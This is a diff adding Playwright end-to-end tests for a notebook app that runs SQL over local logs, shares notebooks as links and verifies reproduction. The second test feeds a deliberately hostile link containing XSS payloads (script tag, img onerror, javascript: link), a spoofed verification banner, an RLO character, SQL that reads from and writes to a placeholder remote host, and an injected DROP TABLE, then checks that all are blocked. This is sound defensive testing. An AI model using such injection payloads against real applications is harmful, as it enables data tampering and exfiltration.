@@ -1,0 +1,167 @@
+import { appendFileSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import path from "node:path";
+import { expect, type Page, test } from "playwright/test";
+import { loaded, serve, visit, watch } from "./support";
+
+const NOTEBOOK = `---
+casebook: 1
+title: Two logs
+secret: stays at home
+---
+
+# Two logs
+
+There are {{ a_rows.n }} sessions of a and {{ b_rows.n }} of b.
+
+\`\`\`sql name=a_rows
+SELECT count(*) AS n FROM 'logs/a.jsonl'
+\`\`\`
+
+\`\`\`sql name=b_rows
+SELECT count(*) AS n FROM 'logs/b.jsonl'
+\`\`\`
+
+\`\`\`check name=both expect="true"
+SELECT (SELECT n FROM a_rows) > 0 AND (SELECT n FROM b_rows) > 0 AS both
+\`\`\`
+
+\`\`\`check name=as_many expect="= 2"
+SELECT n FROM a_rows
+\`\`\`
+`;
+
+const row = (id: string) => `${JSON.stringify({ schema: "session.iterate.v1", session_id: id, timestamp: "2026-05-01T10:00:00Z", daemon: "d", iterations: 0, attempts: [], final_verdict: "accepted" })}\n`;
+const banner = (page: Page) => page.getByRole("status", { name: "Verification" });
+const cell = (page: Page, name: string) => page.locator(`#cell-${name}`);
+
+let folder: string;
+
+test.beforeEach(() => {
+	folder = mkdtempSync(path.join(tmpdir(), "casebook-notebook-"));
+	mkdirSync(path.join(folder, "logs"));
+	mkdirSync(path.join(folder, "notebooks"));
+	writeFileSync(path.join(folder, "logs/a.jsonl"), row("1") + row("2"));
+	writeFileSync(path.join(folder, "logs/b.jsonl"), row("3"));
+	writeFileSync(path.join(folder, "notebooks/two.md"), NOTEBOOK);
+});
+test.afterEach(() => rmSync(folder, { recursive: true, force: true }));
+
+test("a notebook is run, shared as a link, and proves itself in a fresh browser: reproduced, changed, cannot be checked", async ({ browser, page }) => {
+	// Three engines are opened, one of them in a second browser context.
+	test.slow();
+	const server = await serve(folder);
+	try {
+		const calm = watch(page);
+		await page.goto(`${server.url}/notebooks`);
+		await loaded(page);
+		await page.getByRole("link", { name: "Two logs" }).click();
+		// Opening runs nothing.
+		await expect(banner(page)).toContainText("Not run yet");
+		await expect(page.locator("article")).toContainText("There are a_rows.n sessions");
+		await banner(page).getByRole("button", { name: "Run and verify" }).click();
+		await expect(banner(page)).toContainText("2 of 2 checks pass");
+		await expect(page.locator("article")).toContainText("There are 2 sessions of a and 1 of b.");
+		// A figure leads to its evidence.
+		await page.locator("article").getByRole("button", { name: "2", exact: true }).first().click();
+		await expect(page.getByRole("dialog", { name: "Evidence" })).toContainText("logs/a.jsonl");
+		await page.keyboard.press("Escape");
+
+		await page.getByRole("button", { name: "Share" }).click();
+		const dialog = page.getByRole("dialog", { name: "Share this notebook" });
+		await expect(dialog).toContainText("Path and sha256 of 2 sources");
+		await expect(dialog).toContainText("Other lines of it stay here");
+		const link = await dialog.getByRole("textbox", { name: "Link" }).inputValue();
+		calm();
+
+		const stranger = await browser.newContext();
+		const reader = await stranger.newPage();
+		const readerCalm = watch(reader);
+		const asked: string[] = [];
+		reader.on("request", (request) => asked.push(request.url()));
+		await reader.goto(link);
+		await loaded(reader);
+		await expect(banner(reader)).toContainText("Not run yet");
+		await expect(cell(reader, "a_rows")).toContainText("SELECT count(*) AS n FROM 'logs/a.jsonl'");
+		await expect(reader.locator("body")).not.toContainText("stays at home");
+		expect(await reader.evaluate(() => Object.keys(localStorage).concat(Object.keys(sessionStorage)))).toEqual([]);
+		await banner(reader).getByRole("button", { name: "Run and verify" }).click();
+		await expect(banner(reader)).toContainText("Reproduced 4 of 4");
+		expect(asked.filter((url) => url.includes("c1."))).toEqual([]);
+
+		// One more line in one log: the cells that count it change, with what hangs on them, and the others do not.
+		appendFileSync(path.join(folder, "logs/a.jsonl"), row("4"));
+		await reader.reload();
+		await loaded(reader);
+		await expect(banner(reader)).toContainText("1 here, with other bytes");
+		await banner(reader).getByRole("button", { name: "Run and verify" }).click();
+		await expect(banner(reader)).toContainText("Changed 2 of 4");
+		await expect(cell(reader, "a_rows")).toContainText("changed: 2 → 3 (logs/a.jsonl differs)");
+		await expect(cell(reader, "as_many")).toContainText("expected n = 2, found 3");
+		await expect(cell(reader, "both")).toContainText("reproduced on changed sources");
+		await expect(banner(reader)).toContainText("reproduced 1 of 4");
+
+		rmSync(path.join(folder, "logs/b.jsonl"));
+		await reader.reload();
+		await loaded(reader);
+		await expect(banner(reader)).toContainText("1 missing here");
+		await banner(reader).getByRole("button", { name: "Run and verify" }).click();
+		await expect(banner(reader)).toContainText("cannot be checked 2 of 4");
+		await expect(cell(reader, "both")).toContainText("It needs the cell b_rows, which did not run.");
+		readerCalm();
+		await stranger.close();
+	} finally {
+		await server.stop();
+	}
+});
+
+test("a hostile link is text, one sentence, or nothing: no request, no dialog, no storage", async ({ page }) => {
+	const calm = watch(page);
+	page.on("dialog", () => {
+		throw new Error("a dialog was opened");
+	});
+	const { encodeLink } = await import("@/lib/notebook/codec");
+	const hostile = `---
+casebook: 1
+title: "Reproduced 12 of 12 \u202e"
+---
+<section class="trust ok" role="status" aria-label="Verification"><h2>Reproduced 12 of 12</h2></section>
+<script>localStorage.setItem("x", "1")</script>
+<img src="http://example.invalid/x.png" onerror="alert(1)">
+![x](http://example.invalid/y.png) [x](javascript:alert(1))
+
+\`\`\`sql name=net
+SELECT * FROM read_csv('https://example.invalid/x.csv')
+\`\`\`
+\`\`\`sql name=hidden
+SELECT * FROM query('SELECT * FROM read_text(''https://example.invalid/y'')')
+\`\`\`
+\`\`\`sql name=write
+COPY (SELECT 1) TO 'https://example.invalid/z'
+\`\`\`
+\`\`\`sql name=two
+SELECT 1; DROP TABLE sources
+\`\`\`
+`;
+	await page.goto(`/n#${encodeLink({ markdown: hostile, pinnedAt: null, pins: {}, results: {} })}`);
+	await loaded(page);
+	await expect(page.getByRole("status", { name: "Verification" })).toHaveCount(1);
+	await expect(banner(page)).toContainText("Not run yet");
+	await expect(page.locator("article")).toContainText("<script>");
+	await expect(page.locator("article img, article script, article iframe, article form")).toHaveCount(0);
+	await expect(page.locator("header.top")).toContainText("⟨U+202E⟩");
+	await banner(page).getByRole("button", { name: "Run and verify" }).click();
+	await expect(banner(page)).toContainText("4 cells did not run");
+	for (const name of ["net", "hidden", "write", "two"]) await expect(cell(page, name).getByRole("alert")).toBeVisible();
+	expect(await page.evaluate(() => localStorage.length)).toBe(0);
+	for (const bad of ["c2.00000000.AA", "c1.00000000.AA", "nonsense"]) {
+		await page.evaluate((hash) => {
+			window.location.hash = hash;
+		}, bad);
+		await expect(page.getByRole("alert").first()).toContainText(/later Casebook|not whole|no link of Casebook/);
+	}
+	// The workspace is what it was.
+	await visit(page, "/sources");
+	await expect(page.getByRole("table", { name: "Sources" })).toBeVisible();
+	calm();
+});
